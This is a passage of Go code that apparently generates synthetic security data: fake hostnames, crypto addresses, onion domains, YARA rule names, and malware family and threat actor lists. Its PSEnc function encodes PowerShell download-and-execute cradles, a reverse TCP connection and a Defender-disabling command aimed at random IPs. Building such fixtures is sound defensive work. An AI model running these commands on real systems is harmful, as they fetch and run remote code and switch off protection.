	return g.pick("WS", "LT", "SRV", "DC", "FS", "VDI", "MAC") + "-" + g.pick("NYC", "LON", "FRA", "SIN", "SFO", "PAR", "MAD", "TYO", "AMS", "WAW") + "-" + g.rs(digits, g.n(3, 4))
}
func (g *G) Version() K {
	return K(fmt.Sprintf("%d.%d.%d", g.n(1, 17), g.n(0, 30), g.n(0, 40)))
}
func (g *G) WinBuild() K {
	return K(fmt.Sprintf("10.0.%d.%d", g.pick2(19045, 22621, 22631, 17763, 20348), g.n(1000, 5200)))
}
func (g *G) pick2(xs ...int) int { return xs[g.r.Intn(len(xs))] }
func (g *G) BTC() K {
	if g.chance(0.5) {
		return K("bc1q" + g.rs(bech32c, 38))
	}
	return K(g.pick("1", "3") + g.rs("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz", 33))
}
func (g *G) Onion() K       { return K(g.rs(b32, 56) + ".onion") }
func (g *G) SuricataSID() K { return K(fmt.Sprint(g.n(2000000, 2059999))) }
func (g *G) MsgID() K {
	return K("<" + g.pick(g.rs(alnum, 12)+"."+g.rs(digits, 10), "CA"+g.rs(alnum+"+_", 40), fmt.Sprint(g.n(20230101, 20251231))+g.rs(digits, 6)+"."+g.rs(hexs, 16)) + "@" + g.pick("mail.gmail.com", "PH0PR11MB4981.namprd11.prod.outlook.com", "smtp-relay.mailgun.net", g.pick(badDomains...), "mx.sendgrid.net") + ">")
}
func (g *G) PSEnc() K {
	cmd := g.pick(
		"IEX (New-Object Net.WebClient).DownloadString('http://"+string(g.IP())+"/a.ps1')",
		"$c=New-Object Net.Sockets.TCPClient('"+string(g.IP())+"',"+g.Port()+");$s=$c.GetStream()",
		"Invoke-WebRequest -Uri http://"+string(g.IP())+"/u.exe -OutFile $env:TEMP\\u.exe; Start-Process $env:TEMP\\u.exe",
		"Set-MpPreference -DisableRealtimeMonitoring $true; iwr http://"+string(g.IP())+"/s -UseBasicParsing|iex",
	)
	u := utf16.Encode([]rune(cmd))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		binary.LittleEndian.PutUint16(b[2*i:], c)
	}
	return K(base64.StdEncoding.EncodeToString(b))
}
func (g *G) B64Blob(n int) K {
	b := make([]byte, n)
	g.r.Read(b)
	b[0] = 'M'
	b[1] = 'Z'
	return K(base64.StdEncoding.EncodeToString(b))
}
func (g *G) HexBlob(n int) K { b := make([]byte, n); g.r.Read(b); return K(hex.EncodeToString(b)) }
func (g *G) Amount() K {
	return K(fmt.Sprintf("$%d,%03d.%02d", g.n(1, 999), g.n(0, 999), g.n(0, 99)))
}
func (g *G) OrderNo() K {
	return K(fmt.Sprintf("%03d-%07d-%07d", g.n(111, 114), g.n(0, 9999999), g.n(0, 9999999)))
}
func (g *G) Sigma() K { return K(g.uuid()) }
func (g *G) YaraName() K {
	return K(g.pick("MAL_", "APT_", "SUSP_", "HKTL_", "EXPL_") + g.pick("Win_", "Lnx_", "PS_", "JS_", "Office_") + g.pick("LummaStealer", "RedLine", "CobaltStrike_Beacon", "QakBot", "AsyncRAT", "Sliver", "BlackCat", "LockBit3", "AgentTesla", "IcedID", "Emotet", "Remcos", "SocGholish", "Latrodectus") + "_" + fmt.Sprint(g.n(2023, 2025)) + g.pick("", "_1", "_2", "_Mar", "_Oct"))
}

var families = []string{"LummaC2", "RedLine", "Vidar", "StealC", "Raccoon v2", "AgentTesla", "FormBook", "QakBot", "IcedID", "Cobalt Strike", "Sliver", "AsyncRAT", "Remcos", "BlackCat/ALPHV", "LockBit 3.0", "Akira", "Play", "Royal", "SocGholish", "Latrodectus", "DarkGate", "Pikabot"}

func (g *G) Family() string { return g.pick(families...) }

var tas = []string{"Scattered Spider", "FIN7", "TA505", "APT29", "APT28", "Lazarus", "Storm-0558", "Storm-1152", "UNC3944", "TA577", "Kimsuky", "Sandworm", "Mustang Panda", "Volt Typhoon", "Octo Tempest", "Void Manticore"}

func (g *G) Actor() string { return g.pick(tas...) }
func (g *G) User() string  { return g.pick(firstEN...)[:1] + g.pick(lastEN...) }
func (g *G) Name() string {
	return strings.Title(g.pick(firstEN...)) + " " + strings.Title(g.pick(lastEN...))
}
func (g *G) Corp() string { return g.pick(corpDomains...) }

func (g *G) hexPairs(n int) string {
	var ps []string
	for i := 0; i < n; i++ {
		ps = append(ps, strings.ToUpper(g.rs(hexs, 2)))
	}
	return strings.Join(ps, " ")
}

// PEMBodyEsc is a PEM body as a JSON string holds it: lines joined by a backslash-n escape.
func (g *G) PEMBodyEsc() P {
	return g.sec(func() string {
		b := make([]byte, 64*g.n(8, 14))
		g.r.Read(b)
		s := "MIIE" + base64.StdEncoding.EncodeToString(b)
		var lines []string
		for i := 0; i < len(s); i += 64 {
			e := i + 64
			if e > len(s) {
				e = len(s)
			}
			lines = append(lines, s[i:e])
		}
		return strings.Join(lines, "\\n")
	})
}
